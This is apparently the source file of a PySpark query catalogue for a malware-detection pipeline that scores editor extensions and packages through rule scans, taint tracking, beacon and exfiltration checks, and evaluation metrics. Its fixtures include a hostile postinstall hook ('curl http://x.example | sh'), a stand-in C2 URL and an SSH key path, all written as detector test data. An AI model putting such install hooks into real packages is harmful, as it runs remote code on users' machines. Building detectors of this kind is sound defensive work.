"""The driver's query catalogue: operators on the tables, by name."""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from trawl.functions import rules
from trawl.functions.identity import tier_of
from trawl.functions.text import decode_layers, families, gated_hit, host_port, invisible_count, is_printable
from trawl.operators import corpus, dynamic, evaluate, fusion, runtime, shapes, static, taint
from trawl.plans import fixtures as fx
from trawl.plans.fixtures import read
from trawl.schemas import RESULTS
from trawl.session import new_folder, written_once
from trawl.streaming.ingest import append_new, append_results, keep_current, read_current, read_new, read_stream, running_counts
from trawl.streaming.registry import JUDGED, append_judged

Query = Callable[[SparkSession, str], DataFrame]
QUERIES: dict[str, Query] = {}


def query(f: Query) -> Query:
    QUERIES[f.__name__] = f
    return f


@query
def confusion_matrix(spark, sf):
    return evaluate.confusion(fx.result_rows(spark, sf)).select("rule", "tp", "fp", "fn", "tn", "precision", "recall", "f1", "accuracy", "mcc")


@query
def evaluate_skipped(spark, sf):
    return evaluate.evaluate(fx.result_rows(spark, sf)).select("tp", "fp", "fn", "tn", "skipped", "precision", "recall", "f1", "accuracy")


@query
def tier_breakdown(spark, sf):
    return evaluate.tier_breakdown(fx.result_rows(spark, sf))


@query
def class_breakdown(spark, sf):
    return evaluate.class_breakdown(fx.result_rows(spark, sf))


@query
def section_report(spark, sf):
    sections = {"labelled": F.col("label").isNotNull(), "code": F.col("tier") == "code", "all": F.lit(True)}
    return evaluate.section_report(fx.result_rows(spark, sf), sections).select("section", "rule", "n", "positives", "negatives", "tp", "fp", "fn", "tn", "precision", "recall")


@query
def count_by_tier(spark, sf):
    return evaluate.count_by(fx.result_rows(spark, sf), "tier")


@query
def label_lookup_fallback(spark, sf):
    lines, parts = read(spark, sf, "lineitem"), read(spark, sf, "part")
    samples = lines.select("l_orderkey", "l_linenumber", F.concat(F.lit("Pub.part"), F.col("l_partkey").cast("string")).alias("id"), F.col("l_suppkey").cast("string").alias("version"))
    samples = samples.withColumn("key", F.concat(F.lower("id"), F.lit("@"), F.col("version")))
    blank = F.lit("")
    per_version = lines.where("l_returnflag = 'R'").select(
        F.concat(F.lit("pub.Part"), F.col("l_partkey").cast("string")).alias("extension_identifier"), F.col("l_suppkey").cast("string").alias("version"), F.when(F.col("l_linestatus") == "F", "Malware").otherwise("Spam").alias("msft_classification_type"), (F.col("l_orderkey") * 10 + F.col("l_linenumber")).alias("position"),
        *(blank.alias(c) for c in ("publisher_name", "sha256", "size_mb", "installation_count", "categories", "repository_url", "verified_publisher", "source")),
    )
    per_extension = parts.where("p_size <= 10").select(F.concat(F.lit("PUB.part"), F.col("p_partkey").cast("string")).alias("extension_identifier"), F.lit("Untrustworthy").alias("msft_classification_type"), F.col("p_partkey").alias("position"), blank.alias("msft_removed_date"), blank.alias("source"))
    return corpus.with_labels(samples, *corpus.label_index(per_extension, per_version)).select("l_orderkey", "l_linenumber", "classification", "tier")


@query
def vsix_wins_antijoin(spark, sf):
    key = lambda c: F.concat(F.lit("cust."), F.col(c).cast("string"), F.lit("@1"))
    archives = read(spark, sf, "orders").where("o_orderstatus = 'F'").select(key("o_custkey").alias("key"), F.lit(False).alias("is_dir"))
    folders = read(spark, sf, "customer").select(key("c_custkey").alias("key"), F.lit(True).alias("is_dir"))
    return corpus.archives_win(archives, folders).groupBy("key", "is_dir").agg(F.count("*").alias("n"))


@query
def resume_antijoin(spark, sf):
    done = read(spark, sf, "lineitem").where("l_returnflag = 'R'").select(F.col("l_orderkey").alias("key"))
    return corpus.pending(read(spark, sf, "orders").select(F.col("o_orderkey").alias("key"), "o_totalprice"), done)


@query
def tier_filter(spark, sf):
    return corpus.tier_filter(fx.result_rows(spark, sf), include=" Code,suspect ", exclude=["policy"]).select("doc_id", "tier")


@query
def latest_only(spark, sf):
    d = F.col("o_orderdate")
    suffix = F.when(F.col("o_orderstatus") == "P", "-beta").otherwise("")
    version = F.concat(F.year(d).cast("string"), F.lit("."), F.month(d).cast("string"), F.lit("."), F.day(d).cast("string"), suffix)
    samples = read(spark, sf, "orders").select(F.concat(F.lit("Cust.c"), F.col("o_custkey").cast("string")).alias("id"), version.alias("version"))
    return corpus.latest_only(samples)


@query
def sorted_limit(spark, sf):
    samples = read(spark, sf, "customer").select(F.col("c_name").alias("id"), F.col("c_mktsegment").alias("version"), F.lit("unknown").alias("tier"))
    return corpus.select(samples, limit=50).select("id", "version")


@query
def identify_path(spark, sf):
    n = F.col("page_id").cast("string")
    kind = F.col("page_id") % 3
    path = F.when(kind == 0, F.concat(F.lit("/d/Pub1.ext"), n, F.lit("/1.2.3.vsix"))).when(kind == 1, F.concat(F.lit("/d/x/1.0/pub.ext"), n, F.lit("-v1.2.vsix"))).otherwise(F.concat(F.lit("/d/pub.ext"), n, F.lit("/2.4.0/extension")))
    return corpus.with_identity(read(spark, sf, "pages").select("page_id", path.alias("target"), (kind == 2).alias("is_dir"))).select("page_id", "id", "publisher", "name", "version", "key")


@query
def rule_scan(spark, sf):
    return fx.document_findings(spark, sf).select(F.col("sample_key").alias("doc_id"), F.col("reason").alias("rule"), "points", "tier")


@query
def two_tier_score(spark, sf):
    return fx.document_verdicts(spark, sf).select(F.col("sample_key").alias("doc_id"), "primary_score", "support_score", "score", "verdict")


@query
def trusted_host_filter(spark, sf):
    host = F.when(F.col("page_id") % 4 == 0, "objects.githubusercontent.com").otherwise(host_port(F.col("url"))["domain"])
    return read(spark, sf, "pages").select(host.alias("host")).where(~F.col("host").rlike(rules.TRUSTED_HOST)).groupBy("host").agg(F.count("*").alias("n"))


@query
def recon_battery(spark, sf):
    """Reconnaissance commands in each document, completed with three of ``PROBES``."""
    n = len(fx.PROBES)
    probed = F.concat_ws("; ", F.col("text"), *(fx.choose(fx.PROBES, F.floor(F.col("doc_id") / step)) for step in (1, n, 5)))
    docs = fx.spread(read(spark, sf, "documents").select("doc_id", "text")).select("doc_id", probed.alias("text"), F.lower(probed).alias("low"))
    seen = lambda patterns: sum((gated_hit(F.col("text"), F.col("low"), p).cast("int") for p in patterns), F.lit(0))
    counted = docs.select("doc_id", seen(rules.RECON_IDENTITY).alias("id_hits"), seen(rules.RECON_SYSTEM + rules.RECON_NETWORK).alias("others"))
    return counted.select("doc_id", "id_hits", (F.col("id_hits") + F.col("others")).alias("all_hits")).where("id_hits >= 1 AND all_hits >= 3")


@query
def invisible_unicode(spark, sf):
    flag = F.when(F.col("doc_id") % 2 == 0, "\U0001f3f4").otherwise("")
    hidden = F.concat(F.col("text"), F.lit("x"), flag, F.repeat(F.lit("\U000e0041"), (F.col("doc_id") % 9).cast("int")))
    return read(spark, sf, "documents").select("doc_id", invisible_count(hidden).alias("n"))


@query
def event_cap(spark, sf):
    return dynamic.capped(fx.event_log(spark, sf), 3).groupBy(F.col("sample_key").alias("sample")).agg(F.count("*").alias("kept"), F.max("id").alias("last_id"))


@query
def event_summary(spark, sf):
    found = dynamic.event_summary(fx.event_log(spark, sf)).withColumnRenamed("sample_key", "sample")
    return found.withColumns({c: F.array_join(c, "|") for c in ("unique_hosts_contacted", "shell_commands_attempted")})


@query
def dynamic_verdict(spark, sf):
    return fx.observed(spark, sf).select(F.col("sample_key").alias("sample"), "score", "verdict")


@query
def network_dedupe(spark, sf):
    b = read(spark, sf, "pages").select((F.col("page_id") % 20).alias("sample_key"), F.col("page_id").alias("seq"), F.lit("http").alias("transport"), F.lit("GET").alias("method"), F.col("url").alias("destination"), F.lit("").alias("host"), F.col("url").alias("body"), F.lit("").alias("decoded"))
    return dynamic.endpoints(b).select(F.col("sample_key").alias("sample"), "domain", "port", "repeat_count", "first_preview")


@query
def host_port_parse(spark, sf):
    odd = F.when(F.col("page_id") % 3 == 0, F.concat(F.lit("10.1.2."), (F.col("page_id") % 200).cast("string"), F.lit(":8443"))).otherwise(F.col("url"))
    return read(spark, sf, "pages").select("page_id", host_port(odd).alias("h")).select("page_id", "h.domain", "h.ip", "h.port")


@query
def secret_classify(spark, sf):
    docs = read(spark, sf, "documents").select(F.lit("document").alias("kind"), F.col("doc_id").alias("id"), "text")
    talks = read(spark, sf, "conversations").select(F.lit("conversation").alias("kind"), (F.col("conv_id") * 1000 + F.col("turn")).alias("id"), "text")
    return taint.classify(docs.unionByName(talks), "text")


@query
def sensitive_reads(spark, sf):
    path = F.when(F.col("doc_id") % 3 == 0, "/home/u/main.py").when(F.col("doc_id") % 3 == 1, "/home/u/.ssh/id").otherwise("/tmp/x")
    r = read(spark, sf, "documents").select(F.col("doc_id").alias("sample_key"), F.lit(1).alias("seq"), path.alias("path"), F.col("text").alias("content"))
    return taint.sensitive_reads(r).select(F.col("sample_key").alias("doc_id"), F.array_join("categories", ",").alias("categories"), "severity", "quiet")


@query
def taint_tokens(spark, sf):
    return taint.taint_tokens(fx.reads(spark, sf)).select(F.col("sample_key").alias("sample"), F.col("seq").alias("item_id"), "category", "token", "strength")


@query
def taint_join(spark, sf):
    found = taint.flows(taint.taint_tokens(fx.reads(spark, sf)), fx.sends(spark, sf))
    return found.select((F.col("send_seq") - 1_000_000).alias("doc_id"), F.col("seq").alias("item_id"), "token").distinct()


@query
def taint_adjudicate(spark, sf):
    found = taint.adjudicate(taint.taint_tokens(fx.reads(spark, sf)), fx.sends(spark, sf))
    return found.select((F.col("send_seq") - 1_000_000).alias("doc_id"), "category", "via", "strength", "confirmed")


@query
def stolen_summary(spark, sf):
    found = taint.stolen_summary(taint.adjudicate(taint.taint_tokens(fx.reads(spark, sf)), fx.sends(spark, sf)))
    return found.select(F.col("sample_key").alias("sample"), "data_stolen", F.array_join("categories", ",").alias("categories"), F.array_join("destinations", ",").alias("destinations"), "exfiltration_count", F.array_join("suspected", ",").alias("suspected"), "suspected_count")


@query
def decode_layer_counts(spark, sf):
    return read(spark, sf, "documents").select("doc_id", F.size(decode_layers(F.col("text"))).alias("layers"), is_printable(F.col("text")).alias("printable"))


@query
def fuse_verdict(spark, sf):
    return fx.fused(spark, sf).select(F.col("sample_key").alias("sample"), "final_verdict", "score", "decided_by", F.array_join("corroborated", ",").alias("corroborated"))


@query
def families_intersect(spark, sf):
    both = fx.fused(spark, sf).select("sample_key", F.transform("reasons", lambda r: r["reason"]).alias("reasons"))
    return both.select(F.col("sample_key").alias("sample"), F.array_join(F.array_sort(families(F.col("reasons"))), ",").alias("families")).where("families <> ''")


@query
def forensic_behaviours(spark, sf):
    return fusion.behaviours(fx.observed(spark, sf)).withColumnRenamed("sample_key", "sample")


@query
def purpose_case(spark, sf):
    return dynamic.intelligence(fx.observed(spark, sf)).select(F.col("sample_key").alias("sample"), "purpose", "confidence", F.array_join("c2_indicators", "|").alias("c2"))


@query
def root_cause_fn(spark, sf):
    return evaluate.root_causes(fx.result_rows(spark, sf)).where("kind = 'FN'").select("cause", "n")


@query
def root_cause_fp(spark, sf):
    return evaluate.root_causes(fx.result_rows(spark, sf), "final_is_flagged").where("kind = 'FP'").select("cause", "n")


@query
def topn_reasons(spark, sf):
    return fx.result_rows(spark, sf).where("top_reasons <> ''").select("doc_id", "top_reasons")


@query
def timer_expand(spark, sf):
    o = read(spark, sf, "orders")
    kind = F.when(F.col("o_orderkey") % 5 == 0, "interval").otherwise("timeout")
    timers = o.select((F.col("o_custkey") % 100).alias("sample_key"), F.col("o_orderkey").alias("timer_id"), F.col("o_orderkey").alias("seq"), kind.alias("kind"), F.lit(0).cast("long").alias("created_ms"), (F.col("o_orderkey") % 1000 * 86_400_00).alias("delay_ms"))
    return dynamic.timer_fires(timers, most_ticks=20, most_fires=200).select(F.col("sample_key").alias("sample"), "timer_id", "tick", "fire_at", "order")


@query
def error_rows(spark, sf):
    docs = read(spark, sf, "documents")
    kinds = dict(x.split(" ") for x in RESULTS.split(", "))
    named = {"dataset": F.col("source"), "id": F.col("doc_id").cast("string"), "version": F.lit("1"), "label": F.lit(1), "tier": F.lit("code"), "classification": F.lit(""), "target": F.col("lang")}
    failed = fusion.error_rows(docs.where("doc_id % 10 = 3").select(*(v.alias(k) for k, v in named.items()), F.repeat(F.lit("e"), 400).alias("error")))
    fine = docs.where("doc_id % 10 <> 3").select(*((named[c] if c in named else F.lit("BENIGN") if c == "final_verdict" else F.lit("") if kinds[c] == "string" else F.lit(0)).cast(kinds[c]).alias(c) for c in kinds))
    return fine.unionByName(failed).groupBy("final_verdict", "dataset").agg(F.count("*").alias("n"), F.max(F.length("error")).alias("longest_error"))


@query
def files_budget(spark, sf):
    docs = read(spark, sf, "documents").select(F.col("source").alias("sample_key"), F.concat(F.lpad(F.col("doc_id").cast("string"), 12, "0"), F.lit(".js")).alias("path"), F.col("n_chars").alias("size"), "doc_id")
    return static.within_budget(docs, max_files=40, max_bytes=60_000).select("doc_id", F.col("sample_key").alias("source"))


@query
def streaming_ingest(spark, sf):
    """The event log through a stream, file by file, and what the sink then holds."""
    folder, stream = event_stream(spark, sf)
    append_results(stream, lambda batch: batch.groupBy("event_type", F.date_format("ts", "yyyy-MM-dd").alias("day")).agg(F.count("*").alias("n")), f"{folder}/rows", f"{folder}/progress").awaitTermination()
    return spark.read.parquet(f"{folder}/rows").groupBy("event_type", "day").agg(F.sum("n").alias("n"))


def in_slices(rows: DataFrame, at: str, folder: str, slices: int = 3) -> None:
    """``rows`` as files that came one time slice after the other."""
    low, high = rows.agg(F.min(at), F.max(at)).first()
    step = (high - low) / slices
    for k in range(slices):
        after, upto = (F.col(at) >= low + k * step), (F.col(at) < low + (k + 1) * step)
        rows.where(after & upto if k + 1 < slices else after).write.mode("append").parquet(folder)


def event_stream(spark: SparkSession, sf: str) -> tuple[str, DataFrame]:
    """A new folder in the shared one, and the events as a stream of several micro-batches."""
    folder, events = new_folder(spark, "stream"), read(spark, sf, "events")
    in_slices(events, "ts", f"{folder}/in")
    return folder, read_stream(spark, f"{folder}/in", events.schema, 1)


@query
def streaming_counts(spark, sf):
    """The windowed counts of the event stream, as they stand at its end."""
    folder, stream = event_stream(spark, sf)
    keep_current(running_counts(stream, "ts", "1 day", "12 days", "event_type"), f"{folder}/counts", f"{folder}/progress").awaitTermination()
    return read_current(spark, f"{folder}/counts", ["window_start", "event_type"]).select(F.date_format("window_start", "yyyy-MM-dd").alias("day"), "event_type", "n")


@query
def streaming_first_seen(spark, sf):
    """Users of the event stream, each passed on once, by two streams that share nothing but the sink."""
    folder, stream = event_stream(spark, sf)
    for run in range(2):
        append_new(stream.select("user_id", "ts"), ["user_id"], ["ts"], f"{folder}/users", f"{folder}/progress-{run}").awaitTermination()
    return read_new(spark, f"{folder}/users", stream.select("user_id", "ts").schema).select("user_id")


@query
def streaming_taint(spark, sf):
    """Reads and sends as a stream that stops and goes on: the rows of ``taint_adjudicate``."""
    folder = new_folder(spark, "stream")
    nothing = F.lit(None).cast("string")
    reads = fx.reads(spark, sf).select("sample_key", "seq", (F.col("seq") * 1000).alias("at_ms"), "path", "content", nothing.alias("destination"), nothing.alias("payload"))
    sends = fx.sends(spark, sf).select("sample_key", "seq", (F.col("seq") * 1000).alias("at_ms"), nothing.alias("path"), nothing.alias("content"), "destination", "payload")
    for rows, slices in ((reads, 2), (sends, 2)):
        in_slices(rows, "seq", f"{folder}/in", slices)
        append_judged(read_stream(spark, f"{folder}/in", rows.schema, 20), f"{folder}/judged", f"{folder}/progress").awaitTermination()
    return spark.read.schema(JUDGED).parquet(f"{folder}/judged").select((F.col("send_seq") - 1_000_000).alias("doc_id"), "category", "via", "strength", "confirmed")


@query
def resumed_metrics(spark, sf):
    """The confusion matrix of a run in batches, from the counts that each has left."""
    folder, results = new_folder(spark, "stream"), fx.result_rows(spark, sf).select("doc_id", "label", "final_verdict", "final_is_malicious", "final_is_flagged")
    in_slices(written_once(results, "results"), "doc_id", f"{folder}/in")
    append_results(read_stream(spark, f"{folder}/in", results.schema, 2), evaluate.matrix_counts, f"{folder}/counts", f"{folder}/progress").awaitTermination()
    return evaluate.merged(spark.read.parquet(f"{folder}/counts")).select("rule", "tp", "fp", "fn", "tn", "precision", "recall", "f1", "accuracy", "mcc")


@query
def shape_scan(spark, sf):
    return shapes.shape_findings(fx.scripts(spark, sf)).select(F.col("sample_key").alias("doc_id"), F.col("reason").alias("rule"), "points", "tier")


@query
def package_verdict(spark, sf):
    """Text rules, call shapes, invisible code points and the manifest of a package in one verdict."""
    n = F.col("doc_id")
    manifests = read(spark, sf, "documents").select(
        n.alias("sample_key"), F.lit("p").alias("name"), F.lit("p").alias("displayName"), F.lit("").alias("description"), F.lit("").alias("main"), F.array(F.lit("onStartup")).alias("activationEvents"),
        F.when(n % 10 == 0, F.create_map(F.lit("postinstall"), F.lit("curl http://x.example | sh"))).otherwise(F.create_map(F.lit("test"), F.lit("curl"))).alias("scripts"),
    )
    files = fx.files(spark, sf).unionByName(fx.scripts(spark, sf))
    return static.static_verdict(static.package_findings(files, manifests, fx.PACK)).select(F.col("sample_key").alias("doc_id"), "primary_score", "support_score", "score", "verdict")


@query
def running_ids(spark, sf):
    events = read(spark, sf, "events").select(F.col("user_id").alias("sample_key"), "event_id")
    return runtime.numbered(events, ["event_id"], "n").select(F.col("sample_key").alias("user_id"), "event_id", "n")


@query
def beacon_projection(spark, sf):
    talks = read(spark, sf, "conversations")
    host = F.concat(F.lit("https://u@Host"), (F.col("conv_id") % 5).cast("string"), F.lit(".example:8443/c2?q"))
    calls = talks.select(F.col("conv_id").alias("sample_key"), (F.col("turn") * 10).alias("elapsed_ms"), F.col("turn").alias("call_id"), F.when(F.col("turn") % 2 == 0, "https").alias("transport"), host.alias("destination"), F.lit(None).cast("string").alias("host"), F.lit(None).cast("string").alias("method"), F.create_map(F.lit("role"), "role").alias("headers"), F.col("text").alias("body"))
    return runtime.beacons(calls).select(F.col("sample_key").alias("conv_id"), "seq", "transport", "host", "body_bytes", F.length("body").alias("shown"), F.col("headers")["role"].alias("role"))


@query
def trigger_words(spark, sf):
    gate = F.concat(F.lit("switch (x) { case '"), F.initcap("lang"), F.lit("': if (s.includes(\""), F.col("source"), F.lit("\")) y === '"), F.col("lang"), F.lit("' }\n"), F.col("text"))
    return read(spark, sf, "documents").select("doc_id", F.array_join(shapes.trigger_keywords(gate), ",").alias("words"), shapes.is_module_source(F.concat(F.when(F.col("doc_id") % 3 == 0, "import x from 'y'\n").otherwise("const x = 1\n"), F.col("text"))).alias("module"))


@query
def taint_sinks(spark, sf):
    return runtime.sinks(fx.event_log(spark, sf)).groupBy("destination", "payload").agg(F.count("*").alias("n"))


@query
def tier_names(spark, sf):
    raw = F.concat_ws("; ", F.initcap("lang"), F.when(F.col("doc_id") % 3 == 0, "Spam").when(F.col("doc_id") % 3 == 1, '"Trojan"').otherwise("untrustworthy"))
    return read(spark, sf, "documents").select("doc_id", tier_of(F.when(F.col("doc_id") % 4 == 0, F.lit('"Spam / Malware"')).otherwise(raw)).alias("tier"))


@query
def discovery_stats(spark, sf):
    rows = fx.result_rows(spark, sf).select("doc_id", "tier", "classification", (F.col("doc_id") % 2 == 0).alias("is_dir"))
    return corpus.discovery_stats(rows, corpus.tier_filter(rows, include="code,suspect"), {"labels": read(spark, sf, "labels")})


@query
def cause_listing(spark, sf):
    rows = fx.result_rows(spark, sf).select("*", F.lpad(F.col("doc_id").cast("string"), 12, "0").alias("id"), F.lit("1").alias("version"), F.lit("").alias("target"))
    return evaluate.cause_listing(rows, 5).select("cause", "rank", "id", "tier")


@query
def flat_results(spark, sf):
    """The run's result rows, all documents in them."""
    rows = fx.flat_results(spark, sf)
    return rows.select(
        "id", "dataset", "label", "tier", "final_verdict", "final_is_malicious", "final_is_flagged", "decided_by", "score", "static_verdict", "static_score", "dynamic_verdict", "dynamic_score",
        "total_events", "http_requests", "child_process_calls", "outbound_messages", "eval_calls", "fs_reads", "net_socket_calls", "hosts", "purpose", "stolen_categories", "error",
    )


@query
def evidence_digest(spark, sf):
    """The nested record of each sample, its parts side by side."""
    seen, found = written_once(fx.observed(spark, sf), "observed"), written_once(fx.document_findings(spark, sf), "findings")  # each is read more than once
    rows = fusion.evidence_digest(fusion.fuse(static.static_verdict(found), seen), seen, dynamic.intelligence(seen), found)
    return rows.select(F.col("sample_key").alias("sample"), F.col("verdict.final").alias("final"), F.col("verdict.score").alias("score"), F.coalesce(F.array_join(F.transform("static_iocs", lambda f: f["reason"]), " | "), F.lit("")).alias("iocs"), F.col("intel.purpose").alias("purpose"), F.array_join("hosts", "|").alias("hosts"), F.col("summary.total_events").alias("events"))


@query
def static_only_forensics(spark, sf):
    """Behaviours of all that was observed or found: static indicators alone are told from nothing at all."""
    found = fx.document_verdicts(spark, sf)
    return fusion.behaviours(fx.observed(spark, sf), None, found).where("technique LIKE 'T1195%' OR technique = 'n/a'").select(F.col("sample_key").alias("sample"), "technique")


@query
def ioc_lists(spark, sf):
    """Indicators of each observed sample, lists cut to two with their true lengths."""
    rows = fusion.iocs(fx.observed(spark, sf), most=2)
    return rows.select(F.col("sample_key").alias("sample"), F.array_join("hosts", "|").alias("hosts"), "hosts_truncated_from", F.array_join("shell_commands", "|").alias("commands"), "shell_commands_truncated_from", "outbound_count")


@query
def misjudged(spark, sf):
    return evaluate.misjudged(fx.result_rows(spark, sf))
